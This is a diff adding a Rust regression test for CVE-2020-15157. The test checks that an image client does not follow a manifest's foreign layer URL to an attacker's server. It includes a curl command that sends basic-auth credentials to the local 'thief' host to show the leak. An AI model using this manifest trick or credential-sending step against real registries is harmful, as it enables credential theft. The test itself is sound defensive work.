@@ -115,6 +115,30 @@ async fn a_redirect_to_another_host_is_followed_without_credentials() {
     assert_eq!(storage.seen().last().unwrap().header(AUTHORIZATION), Some(basic().as_str()));
 }
 
+/// CVE-2020-15157: a manifest may name an address beside a layer, and its author's server then asks for the registry's credentials.
+#[tokio::test]
+async fn the_address_that_a_manifest_names_for_a_layer_is_asked_for_nothing() {
+    let thief = Registry::start(Content::default(), guarded).await;
+    let mut image = Image::simple("app");
+    let url = format!("http://{}/layer", thief.host());
+    image.manifest["layers"][0]["urls"] = serde_json::json!([url]);
+    for there in [true, false] {
+        let mut content = Content::of(&image);
+        if !there {
+            content.0.retain(|path, _| !path.ends_with(&image.layers[0].digest().to_string()));
+        }
+        let registry = Registry::start(content, guarded).await;
+        let pulled = Stage::new().pull_as(&format!("{}/app", registry.host()), Some(ann())).await;
+        assert_eq!(pulled.is_ok(), there, "{pulled:?}");
+    }
+    assert_eq!(thief.seen().len(), 0, "the manifest led the client to somebody else");
+    // Who follows it hands them over.
+    let mut curl = tokio::process::Command::new("curl");
+    curl.args(["-s", "-o", "/dev/null", "-u", "ann:s3:cret", &url]);
+    assert!(curl.status().await.unwrap().success());
+    assert_eq!(thief.seen()[0].header(AUTHORIZATION), Some(basic().as_str()));
+}
+
 #[tokio::test]
 async fn redirects_that_lead_nowhere() {
     let stage = Stage::new();
